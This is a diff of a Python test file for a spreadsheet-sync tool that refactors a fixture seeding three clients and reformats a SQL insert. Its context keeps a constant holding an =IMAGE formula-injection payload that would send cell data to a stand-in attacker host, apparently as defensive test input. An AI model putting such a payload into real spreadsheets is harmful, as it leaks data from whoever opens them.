@@ -6,23 +6,26 @@ from collections.abc import Iterator
 
 import pytest
 
-from tests.scenarios.office import Office, open_office
+from tests.scenarios.office import Office, office_after
 from tests.scenarios.test_marks import looks
-from tests.unit.store.builders import folder_in_memory
 
 OUT = '=IMAGE("https://evil.example/?d="&B{row})'
 
 
+def begin(opened: Office) -> None:
+    """Three clients, in agreement on both sides."""
+    opened.sync()
+    tab = opened.tab("Clients")
+    for number in (1, 2, 3):
+        tab.append(Name=f"Client {number}", Phone=f"+7912000000{number}", City="Perm")
+    opened.sync()
+    assert opened.disagreements() == []
+
+
 @pytest.fixture
 def office() -> Iterator[Office]:
-    """Three clients, in agreement on both sides."""
-    with folder_in_memory() as folder, open_office(folder) as opened:
-        opened.sync()
-        tab = opened.tab("Clients")
-        for number in (1, 2, 3):
-            tab.append(Name=f"Client {number}", Phone=f"+7912000000{number}", City="Perm")
-        opened.sync()
-        assert opened.disagreements() == []
+    """The office after that."""
+    with office_after(begin) as opened:
         yield opened
 
 
@@ -162,8 +165,10 @@ def test_what_was_typed_into_a_grey_column_is_told_until_somebody_accepts_it(
 def test_what_was_typed_beside_a_change_of_the_store_in_the_same_row_is_told(
     office: Office, heading: str, text: object
 ) -> None:
-    office.sql("insert into contacts (client, contact_at, duration_s, record_url)"
-               " select id, '2026-03-02 10:00', 60, 'https://calls.example/1' from clients limit 1")  # fmt: skip
+    office.sql(
+        "insert into contacts (client, contact_at, duration_s, record_url)"
+        " select id, '2026-03-02 10:00', 60, 'https://calls.example/1' from clients limit 1"
+    )
     office.sync()
     tab = office.tab("Contacts")
     tab.put(2, heading, text)
